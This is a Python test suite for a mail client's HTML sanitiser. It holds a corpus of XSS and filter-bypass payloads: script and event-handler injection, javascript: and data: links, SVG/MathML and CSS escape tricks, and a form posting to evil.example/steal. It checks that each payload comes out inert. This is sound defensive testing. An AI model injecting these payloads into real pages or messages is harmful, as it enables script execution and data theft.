"""Safe HTML for the twin: a hostile corpus comes out inert (checked by an independent parse of the
output), ordinary mail survives, remote references become restorable inert attributes, and the
twin changes only when ``safe_html`` is asked for."""

from __future__ import annotations

import html.parser
import json
import re
import time
from email.message import EmailMessage
from typing import Any

import pytest

from mailiverse.mime.limits import Limits
from mailiverse.mime.safehtml import MAX_MARKUP, make_safe
from mailiverse.mime.summary import summarize
from mailiverse.mime.twin import ERROR_SUBJECT, convert, convert_document, iter_twin

EVIL = "evil.example"

#: The oracle's own lists, written apart from the module's: a tag or attribute added there shows up here.
INERT_TAGS = set(
    "a abbr acronym address b bdi bdo big blockquote br caption center cite code col colgroup dd del"
    " details dfn div dl dt em figcaption figure font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre"
    " q rp rt ruby s samp small span strike strong sub summary sup table tbody td tfoot th thead time tr"
    " tt u ul var wbr".split()
)
INERT_ATTRIBUTES = set(
    "abbr align alt bgcolor border cellpadding cellspacing color colspan datetime dir face height hspace"
    " lang noshade nowrap open rel reversed rowspan rules scope size span start style summary title type"
    " valign value vspace width href src background data-mv-remote-src data-mv-remote-srcset"
    " data-mv-remote-background".split()
)
CSS_BANNED = ("url(", "expression", "javascript", "behavior", "binding", "@import", "\\", "/*", "image", "position")


def _scheme(url: str) -> str:
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21)))).lower()
    found = re.match(r"([a-z][a-z0-9+.-]*):", cleaned)
    return found.group(1) if found else ""


class _Inspector(html.parser.HTMLParser):
    """Collects every tag, attribute and comment of an HTML text, as a second, unrelated parser sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.others: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.others.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.others.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.others.append(f"processing instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.others.append(f"declaration {data!r}")


def inspect(output: str) -> _Inspector:
    inspector = _Inspector()
    inspector.feed(output)
    inspector.close()
    return inspector


def problems(output: str) -> list[str]:
    """Everything in ``output`` that could run, submit or load something; empty when it is inert."""
    found = inspect(output)
    bad = list(found.others)
    for tag, attrs in found.elements:
        if tag not in INERT_TAGS:
            bad.append(f"tag {tag}")
        for name, value in attrs:
            value = value or ""
            if name not in INERT_ATTRIBUTES:
                bad.append(f"attribute {tag} {name}={value!r}")
            elif name == "href" and _scheme(value) not in ("http", "https", "mailto"):
                bad.append(f"link {value!r}")
            elif name == "src" and not (
                _scheme(value) == "cid" or re.match(r"data:image/(png|gif|jpeg|webp)[;,]", value.strip().lower())
            ):
                bad.append(f"loading src {value!r}")
            elif name == "background" and _scheme(value) != "cid":
                bad.append(f"loading background {value!r}")
            elif name.startswith("data-mv-remote-") and not re.match(r"\s*https?://", value, re.IGNORECASE):
                bad.append(f"remote reference {value!r}")
            elif name == "style" and any(token in value.lower() for token in CSS_BANNED):
                bad.append(f"style {value!r}")
    return bad


# (case, hostile HTML, text or markup that must survive)
CORPUS: list[tuple[str, str, list[str]]] = [
    ("script", "<script>alert(1)</script><p>hello</p>", ["<p>hello</p>"]),
    ("script src", f'<script src="http://{EVIL}/x.js"></script>kept', ["kept"]),
    ("img onerror", "<img src=x onerror=alert(1)>after", ["after"]),
    ("body onload", '<body onload="alert(1)"><p>text</p></body>', ["<p>text</p>"]),
    ("handlers everywhere", "<div onclick=a() onmouseover=b() ONFOCUS=c()>hover</div>", ["hover"]),
    ("details ontoggle", "<details open ontoggle=alert(1)><summary>s</summary>d</details>", ["<summary>s</summary>"]),
    ("marquee and keygen", "<marquee onstart=alert(1)>m</marquee><keygen autofocus onfocus=alert(1)>", ["m"]),
    ("javascript link", '<a href="javascript:alert(1)">link</a>', [">link</a>"]),
    ("javascript with tab entity", '<a href=" jav&#x09;ascript:alert(1)">tab</a>', ["tab"]),
    ("javascript mixed case and newline", '<a href="JaVaScRiPt&#10;:alert(1)">nl</a>', ["nl"]),
    ("vbscript link", '<a href="vbscript:msgbox(1)">vb</a>', ["vb"]),
    ("data URL link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>', [">d</a>"]),
    ("svg script", "<svg><script>alert(1)</script></svg>svg", ["svg"]),
    ("svg onload", "<svg onload=alert(1)><circle r=1 /></svg>", []),
    ("svg xlink", '<svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>', []),
    ("svg animate", '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', []),
    ("math href", '<math href="javascript:alert(1)"><mi>CLICK</mi></math>', []),
    ("math mglyph style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", []),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', []),
    (
        "nested iframes",
        f'<iframe src="http://{EVIL}/"><iframe src="javascript:alert(1)"></iframe></iframe>x',
        ["x"],
    ),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>', []),
    (
        "form",
        f'<form action="http://{EVIL}/steal"><input name=p value=secret>'
        f'<button formaction="http://{EVIL}/">Go</button><textarea>t</textarea></form>',
        ["Go"],
    ),
    ("isindex", "<isindex action=javascript:alert(1) type=image>", []),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url=http://{EVIL}/">m', ["m"]),
    ("base href", f'<base href="http://{EVIL}/"><a href="x">relative</a>', ["relative"]),
    ("link stylesheet", f'<link rel=stylesheet href="http://{EVIL}/s.css">l', ["l"]),
    ("style import", f"<style>@import url(http://{EVIL}/s.css);</style><p>styled</p>", ["<p>styled</p>"]),
    ("css expression", '<p style="width: expression(alert(1))">e</p>', ["<p>e</p>"]),
    ("css url javascript", '<p style="background:url(javascript:alert(1))">u</p>', ["<p>u</p>"]),
    ("css behavior", '<p style="behavior: url(x.htc)">b</p>', ["<p>b</p>"]),
    ("css moz-binding", f'<p style="-moz-binding: url(http://{EVIL}/x.xml#xss)">mb</p>', ["<p>mb</p>"]),
    ("css escape", f'<p style="background:u\\72l(http://{EVIL}/x)">esc</p>', ["<p>esc</p>"]),
    ("css comment", f'<p style="background:ur/**/l(http://{EVIL}/x)">c</p>', ["<p>c</p>"]),
    (
        "css remote background, colour kept",
        f'<p style="background-image:url(http://{EVIL}/bg.png);color:red">bg</p>',
        ['style="color:red"'],
    ),
    ("css image-set", f"<p style=\"background:image-set('http://{EVIL}/x' 1x)\">is</p>", ["<p>is</p>"]),
    ("css overlay", '<div style="position:fixed;top:0;width:100%;color:blue">o</div>', ["color:blue"]),
    (
        "srcset tracker",
        f'<img srcset="http://{EVIL}/t.png 1x, https://{EVIL}/t2.png 2x" alt="pic">',
        [f'data-mv-remote-srcset="http://{EVIL}/t.png 1x, https://{EVIL}/t2.png 2x"', 'alt="pic"'],
    ),
    ("srcset javascript", "<img srcset=\"javascript:alert(1) 1x\" alt='s'>", ['alt="s"']),
    (
        "tracking pixel",
        f'<img src="http://{EVIL}/open?id=42&amp;u=7" width=1 height=1>',
        [f'data-mv-remote-src="http://{EVIL}/open?id=42&amp;u=7"'],
    ),
    ("protocol-relative image", f'<img src="//{EVIL}/p.gif" alt="pr">', ['alt="pr"']),
    ("relative URLs", '<a href="/api/logout">out</a><img src="/api/store/x" alt="rel">', ["out", 'alt="rel"']),
    ("video poster", f'<video poster="http://{EVIL}/p.png" src="http://{EVIL}/v.mp4">fallback</video>', ["fallback"]),
    ("audio source", f'<audio src="http://{EVIL}/a.mp3"><source src="http://{EVIL}/b.mp3"></audio>', []),
    ("object", f'<object data="http://{EVIL}/x.swf"><param name=movie value=x></object>', []),
    ("embed", f'<embed src="http://{EVIL}/x.swf">e', ["e"]),
    ("ping and lowsrc", f'<a href="https://ok.example/" ping="http://{EVIL}/">p</a><img lowsrc="http://{EVIL}/">', []),
    ("data image kept", '<img src="data:image/png;base64,iVBORw0KGgo=">', ['src="data:image/png;base64,iVBORw0KGgo="']),
    ("data svg image", '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="svg">', ['alt="svg"']),
    ("data html image", '<img src="data:text/html,<script>alert(1)</script>" alt="h">', ['alt="h"']),
    ("mixed-case tags", "<ScRiPt>alert(1)</sCrIpT><IMG SRC=x ONERROR=alert(1)>mc", ["mc"]),
    ("unclosed tags", "<p>open <b>bold <img src=x onerror=alert(1)//", ["open", "bold"]),
    ("comment hiding script", "<!--<script>alert(1)</script>--><p>after</p>", ["<p>after</p>"]),
    ("comment ended by --!>", "<!-- x --!><script>alert(1)</script> -->v", ["v"]),
    ("conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->ie", ["ie"]),
    ("template", "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>t", ["t"]),
    ("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', []),
    ("xmp", "<xmp><script>alert(1)</script></xmp>", []),
    ("attribute breakout", '<img alt="&quot;><script>alert(1)</script>">', []),
    ("forged inert reference", '<img data-mv-remote-src="javascript:alert(1)" alt="f">', ['alt="f"']),
    (
        "table backgrounds",
        f'<table background="http://{EVIL}/t.png"><tr><td background="cid:bg@x">c</td></tr></table>',
        [f'data-mv-remote-background="http://{EVIL}/t.png"', 'background="cid:bg@x"'],
    ),
    ("cid image", '<img src="cid:logo@example.org" alt="logo">', ['src="cid:logo@example.org"']),
    (
        "newsletter",
        '<table width="600" cellpadding="4" bgcolor="#ffffff"><tr><td align="center" style="color:#333;'
        'font-family:Arial,sans-serif;padding:8px"><h1>News</h1><font color="red">Sale</font> '
        '<a href="https://shop.example/deal?a=1&amp;b=2">Shop now</a> <a href="mailto:help@shop.example">Help</a>'
        "</td></tr></table><ul><li>one</li><li>two</li></ul>",
        [
            "<h1>News</h1>",
            '<font color="red">Sale</font>',
            'href="https://shop.example/deal?a=1&amp;b=2"',
            'href="mailto:help@shop.example"',
            'style="color:#333;font-family:Arial , sans-serif;padding:8px"',
            'cellpadding="4"',
            "<li>two</li>",
        ],
    ),
]


@pytest.mark.parametrize(("html_in", "survivors"), [c[1:] for c in CORPUS], ids=[c[0] for c in CORPUS])
def test_hostile_corpus_comes_out_inert(html_in: str, survivors: list[str]) -> None:
    """Each hostile case has nothing left that runs, submits or loads, and its benign content survives."""
    safe = make_safe(html_in)
    assert problems(safe.html) == []
    for kept in survivors:
        assert kept in safe.html


def test_corpus_size_and_the_oracle_sees_the_raw_corpus_as_hostile() -> None:
    """The corpus has over 30 cases, and the inertness check flags all but the benign ones before sanitising."""
    unflagged = {name for name, html_in, _ in CORPUS if not problems(html_in)}
    assert len(CORPUS) >= 30
    # An unclosed <img and a quoted "><script> are no tags to html.parser; the other three are benign.
    assert unflagged == {"unclosed tags", "attribute breakout", "data image kept", "cid image", "newsletter"}


def test_remote_references_are_inert_restorable_and_counted() -> None:
    """Remote src, srcset and background are renamed to data-mv-remote-*, counted, and cid:/data: images stay."""
    safe = make_safe(
        f'<img src="https://{EVIL}/a.png"><img srcset="https://{EVIL}/b.png 2x">'
        f'<table><tr><td background="http://{EVIL}/c.png">x</td></tr></table>'
        '<img src="cid:part1@x"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'
    )
    assert safe.remote == 3 and not safe.truncated
    found = inspect(safe.html)
    remote = [(n, v) for _, attrs in found.elements for n, v in attrs if n.startswith("data-mv-remote-")]
    assert remote == [
        ("data-mv-remote-src", f"https://{EVIL}/a.png"),
        ("data-mv-remote-srcset", f"https://{EVIL}/b.png 2x"),
        ("data-mv-remote-background", f"http://{EVIL}/c.png"),
    ]
    assert EVIL not in "".join(str(v) for _, attrs in found.elements for n, v in attrs if n in ("src", "srcset"))
    assert 'src="cid:part1@x"' in safe.html and 'src="data:image/gif;base64,' in safe.html


def test_a_megabyte_of_nested_divs_is_time_bounded_and_inert() -> None:
    """1 MB of nested <div> (minutes for html5ever whole) is cut at MAX_MARKUP: quick, inert, with a notice."""
    hostile = "<div onclick=alert(1)>" * (1024 * 1024 // 22)
    start = time.monotonic()
    safe = make_safe(hostile)
    elapsed = time.monotonic() - start
    assert elapsed < 5.0
    assert safe.truncated and problems(safe.html) == []
    assert safe.html.count("<div>") == MAX_MARKUP
    assert "too large to be made safe" in safe.html


def test_thousands_of_distinct_open_formatting_elements_are_quick() -> None:
    """5,000 distinct open <b> re-opened in 5,000 blocks (3 s for html5ever as such) take well under a second."""
    hostile = "<div>" + "".join(f'<b title="{i}">' for i in range(5000)) + "</div>" + "<div>x</div>" * 5000
    start = time.monotonic()
    safe = make_safe(hostile)
    assert time.monotonic() - start < 1.0
    assert problems(safe.html) == [] and '<b title="4999">' in safe.html and not safe.truncated


def test_formatting_elements_keep_their_names_and_attributes() -> None:
    """Bold, italics and <font> come out under their own names, with their attributes, in any case."""
    safe = make_safe('<B style="color:red">bold</B> <font color="red" face="Arial" onclick="x">f</font> <i>it</i>')
    assert safe.html == ('<b style="color:red">bold</b> <font color="red" face="Arial">f</font> <i>it</i>')
    assert "mvt" not in make_safe('<textarea><b>t</b></textarea><p title="<b>">x</p>').html


def test_markup_below_the_bound_is_not_cut() -> None:
    """A large but ordinary body (rows of a table) under MAX_MARKUP keeps its last row."""
    rows = "".join(f"<tr><td>row {i}</td></tr>" for i in range(MAX_MARKUP // 6))
    safe = make_safe(f"<table>{rows}</table>")
    assert not safe.truncated and f"row {MAX_MARKUP // 6 - 1}" in safe.html


# --- through the twin -------------------------------------------------------------------------------

HOSTILE_HTML = (
    '<html><head><style>@import url(http://evil.example/s.css);</style></head><body onload="alert(1)">'
    '<p>Hello <a href="javascript:alert(2)">click</a> <a href="https://ok.example/">ok</a></p>'
    '<img src="http://evil.example/pixel.png"><img src="cid:logo@x"><script>alert(3)</script></body></html>'
)


def _message(content_type: str = "text/html") -> bytes:
    message = EmailMessage()
    message["From"] = "Sender <s@remote.example>"
    message["To"] = "alice@example.org"
    message["Subject"] = "Hostile"
    message["Message-ID"] = "<h@remote.example>"
    message.set_content("Hello, plain <script>alert(0)</script>\n")
    message.add_alternative(HOSTILE_HTML, subtype="html")
    return re.sub(rb"Content-Type: text/html[^\n]*", f"Content-Type: {content_type}".encode(), message.as_bytes())


def _twin(raw: bytes, **options: Any) -> dict[str, Any]:
    return convert_document(raw, original_path="Mail/In/1", written_ms=7, **options)


def _parts(twin: dict[str, Any]) -> list[dict[str, Any]]:
    content = twin["content"]
    return list(content["value"]) if content["class"] == "part" else [content]


def test_twin_html_part_is_made_safe_and_marked() -> None:
    """safe_html=True: the HTML part is inert and carries "safe"; the plain part and the rest are untouched."""
    raw = _message()
    plain, unsafe = _twin(raw), _twin(raw, safe_html=True)
    text_part, html_part = _parts(unsafe)
    assert problems(html_part["value"]) == [] and "alert" not in html_part["value"]
    assert 'href="https://ok.example/"' in html_part["value"] and 'src="cid:logo@x"' in html_part["value"]
    assert html_part["safe"] == {"remote": 1, "truncated": False}
    assert "safe" not in text_part and "<script>" in text_part["value"]
    # Put the original value back and drop the marker: the rest of the document is the default twin.
    html_part["value"] = _parts(plain)[1]["value"]
    del html_part["safe"]
    assert unsafe == plain


def test_default_twin_is_unchanged_and_streams_the_same() -> None:
    """Without safe_html the twin keeps the hostile HTML as received; both forms stream to the same bytes."""
    raw = _message()
    default = convert(raw, original_path="Mail/In/1", written_ms=7)
    assert default == convert(raw, original_path="Mail/In/1", written_ms=7, safe_html=False)
    assert json.loads(default)["content"]["value"][1]["value"] == HOSTILE_HTML + "\n"
    safe = convert(raw, original_path="Mail/In/1", written_ms=7, safe_html=True)
    assert b"".join(iter_twin(_twin(raw, safe_html=True, streamed=True))) == safe
    assert b"".join(iter_twin(_twin(raw, streamed=True))) == default


def test_readers_take_the_safe_body_and_ignore_the_marker() -> None:
    """The twin reader (same rules as the original client) shows the sanitised HTML as the HTML body."""
    summary = summarize(json.loads(convert(_message(), original_path="Mail/In/1", written_ms=7, safe_html=True)))
    assert summary.html_body is not None and problems(summary.html_body) == []
    assert summary.text_body is not None and summary.subject == "Hostile"


@pytest.mark.parametrize("content_type", ["TEXT/HTML; charset=utf-8", 'text/html; charset="utf-8"; x=y'])
def test_any_spelling_of_text_html_is_made_safe(content_type: str) -> None:
    """An HTML part is recognised whatever the case or parameters of its Content-Type."""
    html_part = _parts(_twin(_message(content_type), safe_html=True))[1]
    assert "safe" in html_part and problems(html_part["value"]) == []


def test_sanitising_counts_against_the_conversion_time_limit() -> None:
    """Many deeply nested HTML parts cannot hold a worker: the time limit gives the error document."""
    message = EmailMessage()
    message["Subject"] = "many"
    message.set_content("x")
    for _ in range(6):
        message.add_attachment("<div>" * 100_000, subtype="html", disposition="inline")
    start = time.monotonic()
    twin = convert_document(
        message.as_bytes(), original_path="Mail/In/1", written_ms=7, limits=Limits(max_seconds=1.0), safe_html=True
    )
    assert time.monotonic() - start < 4.0
    assert twin["headers"] == [["subject", ERROR_SUBJECT]]
    assert "time limit" in twin["content"]["value"]


def test_a_twin_that_fails_to_convert_carries_no_html() -> None:
    """An HTML part that cannot be decoded gives the error document, whose only text is the error."""
    raw = b"Content-Type: text/html; charset=no-such-charset\n\n<script>alert(1)</script>"
    twin = _twin(raw, safe_html=True)
    assert twin["content"]["headers"] == [["Content-Type", "text/plain"]]
    assert "no-such-charset" in twin["content"]["value"] and "<script>" not in twin["content"]["value"]
